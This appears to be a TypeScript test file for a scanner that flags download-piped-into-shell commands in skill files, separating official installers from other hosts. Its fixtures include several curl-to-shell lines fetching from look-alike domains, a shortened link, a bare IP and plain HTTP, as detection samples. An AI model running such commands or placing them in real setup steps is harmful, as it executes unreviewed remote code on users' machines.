import * as assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyzeFixture, expectAt, expectNone, withCode } from '../../support/fixture';
import { installerSource } from '../../../server/src/platforms/installers';

// A download piped into a shell is remote_code (a warning), unless the address is a tool's official installer, or the
// skill's own publisher's, over HTTPS: then official_installer (information), with the pinned-download advice.

const skill = (meta: string, block: string) =>
  `---\nname: setup\ndescription: Sets the tools up. Use when asked to set up.\n${meta}---\n\n\`\`\`bash\n${block}\n\`\`\`\n`;

test("official_installer: a tool's official installer over HTTPS is information, not remote_code", () => {
  const { analysis, spans } = analyzeFixture(
    'setup',
    skill('', '«curl -LsSf https://astral.sh/uv/install.sh | sh»\n«irm https://astral.sh/uv/install.ps1 | iex»'),
  );
  const found = expectAt(analysis, 'official_installer', spans);
  assert.deepEqual(
    found.map((item) => item.severity),
    ['information', 'information'],
  );
  assert.match(found[0].message, /official installer at `https:\/\/astral\.sh\/uv\/install\.sh`/);
  assert.match(found[0].message, /download a release of a pinned version and check its checksum/);
  expectNone(analysis, 'remote_code');
});

test("official_installer: the skill's own publisher's installer, by the name its frontmatter gives", () => {
  const block = '«curl -fsSL https://cli.acme.dev/install.sh | bash»';
  const own = analyzeFixture('setup', skill('metadata:\n  author: "ACME"\n', block));
  expectAt(own.analysis, 'official_installer', own.spans);
  expectNone(own.analysis, 'remote_code');
  // Another author: the same address is a stranger's.
  const other = analyzeFixture('setup', skill('metadata:\n  author: "Someone Else"\n', block));
  const [found] = expectAt(other.analysis, 'remote_code', other.spans);
  assert.equal(found.severity, 'warning');
  expectNone(other.analysis, 'official_installer');
});

test('remote_code: any other host, a look-alike, a shortened address, a bare IP or plain HTTP stays a warning', () => {
  const { analysis, spans } = analyzeFixture(
    'setup',
    skill(
      '',
      [
        '«curl -fsSL https://get.example-tools.dev/install.sh | bash»',
        '«curl -fsSL https://astral.sh.example.io/uv/install.sh | sh»',
        '«curl -fsSL https://example.io/astral.sh/uv/install.sh | sh»',
        '«curl -fsSL https://bit.ly/3xYzAbC | sh»',
        '«curl -fsSL https://203.0.113.7/i.sh | sh»',
        '«curl -fsSL http://astral.sh/uv/install.sh | sh»',
        '«curl -fsSL "$INSTALLER_URL" | sh»',
        // A comment after the shell is not a script it is given: the shell still runs the download.
        '«curl -fsSL https://get.example-tools.dev/install.sh | bash»    # macOS / Linux',
      ].join('\n'),
    ),
  );
  const found = expectAt(analysis, 'remote_code', spans);
  expectNone(analysis, 'official_installer');
  assert.deepEqual(
    found.map((item) => /hides who serves it/.test(item.message)),
    [false, false, false, true, true, true, false, false],
  );
  assert.equal(withCode(analysis, 'remote_code')[3].severity, 'warning');
});

test('installerSource: official by address prefix or by the name a host is registered under', () => {
  assert.equal(installerSource('https://sh.rustup.rs', []), 'official');
  assert.equal(installerSource('https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh', []), 'official');
  assert.equal(installerSource('https://raw.githubusercontent.com/someone/x/main/install.sh', []), 'other');
  assert.equal(installerSource('https://get.acme.co.uk/install.sh', ['acme']), 'official');
  assert.equal(installerSource('https://acme.co.uk.example.com/install.sh', ['acme']), 'other');
  assert.equal(installerSource('https://www.tinyurl.com/abc', []), 'hidden');
  assert.equal(installerSource('not a url', ['acme']), 'other');
});
